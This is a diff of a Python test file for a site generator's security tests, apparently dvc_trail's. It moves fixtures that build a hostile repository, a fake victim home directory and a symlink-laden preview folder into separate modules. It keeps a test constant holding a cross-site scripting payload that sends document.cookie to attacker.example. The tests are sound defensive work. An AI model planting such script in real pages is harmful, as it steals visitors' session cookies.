@@ -8,64 +8,23 @@ answers only loopback host names and serves no link. No tag name, however long, 
 from __future__ import annotations
 
 import errno
-import hashlib
-import http.client
 import json
 import os
 import shutil
 import socket
 import subprocess
 import sys
-import threading
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from dvc_trail.site import paths
-from tests.conftest import commit_all, git, trail
-from tests.test_hostile import _isolated, attack, hostile_repo, local_remote, store_object  # noqa: F401
+from tests.fixtures.hostile import _isolated, attack, hostile_repo, local_remote, store_object  # noqa: F401
+from tests.fixtures.hostile_sites import get, home, registry, tree
+from tests.fixtures.repos import commit_all, git, trail
 
 SCRIPT = "<script>fetch('https://attacker.example/'+document.cookie)</script>"
 CSP = '<meta http-equiv="Content-Security-Policy"'
-
-
-def registry(tmp_path: Path, name: str = "evil") -> Path:
-    """An attacker's repository with `model@v1.0.0` and `model@v1.1.0`."""
-    store = tmp_path / "store"
-    data = b"weights"
-    repo = hostile_repo(tmp_path, "model.bin", store_object(store, data), len(data), local_remote(store), name=name)
-    commit_all(repo, "second")
-    git(repo, "tag", "-a", "-m", "Registering artifact model version v1.1.0", "model@v1.1.0")
-    return repo
-
-
-def home(tmp_path: Path) -> Path:
-    """The victim's home: dotfiles, a key, another project."""
-    folder = tmp_path / "home"
-    (folder / ".ssh").mkdir(parents=True)
-    (folder / "project").mkdir()
-    (folder / ".bashrc").write_text("export PATH=/usr/bin\n")
-    (folder / ".profile").write_text("# mine\n")
-    (folder / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
-    (folder / "project" / "notes.txt").write_text("years of work\n")
-    return folder
-
-
-def tree(folder: Path) -> list[tuple[str, str]]:
-    """Every name under `folder` with its content hash or link target (no link followed)."""
-    out = []
-    for here, dirs, names in os.walk(folder, followlinks=False):
-        for name in dirs + names:
-            path = Path(here) / name
-            rel = str(path.relative_to(folder))
-            if path.is_symlink():
-                out.append((rel, "-> " + os.readlink(path)))
-            elif path.is_file():
-                out.append((rel, hashlib.md5(path.read_bytes()).hexdigest()))
-            else:
-                out.append((rel, "dir"))
-    return sorted(out)
 
 
 def files(folder: Path) -> dict[str, bytes]:
@@ -314,46 +273,6 @@ def test_slugs_are_bounded_unique_and_reversible_below_the_bound() -> None:
 
 
 # --- class 5: the preview server ----------------------------------------------------------------------------
-
-
-@pytest.fixture
-def preview(tmp_path: Path) -> Iterator[tuple[Path, int, Path]]:
-    """A folder served by `trail site --serve`'s server in a thread: (folder, port, the victim's home)."""
-    from dvc_trail.site.serve import make_server
-
-    mine = home(tmp_path)
-    folder = tmp_path / "site"
-    (folder / "a" / "model").mkdir(parents=True)
-    (folder / "index.html").write_text("<h1>registry</h1>")
-    (folder / "a" / "model" / "index.html").write_text("model page")
-    (folder / "secret").symlink_to(mine / ".ssh" / "id_rsa")
-    (folder / "home").symlink_to(mine)
-    (folder / "a" / "up").symlink_to("../..")
-    (folder / "a" / "model" / "v1.html").symlink_to(mine / ".bashrc")
-    (folder / "empty").mkdir()
-    os.mkfifo(folder / "fifo")
-    server = make_server(folder, 0)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield folder, server.server_address[1], mine
-    finally:
-        server.shutdown()
-        server.server_close()
-        os.close(server.root)
-
-
-def get(port: int, path: str, host: str | None) -> tuple[int, bytes]:
-    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
-    try:
-        conn.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
-        if host is not None:
-            conn.putheader("Host", host)
-        conn.endheaders()
-        response = conn.getresponse()
-        return response.status, response.read()
-    finally:
-        conn.close()
 
 
 def test_preview_answers_only_loopback_host_names(preview: tuple[Path, int, Path]) -> None:
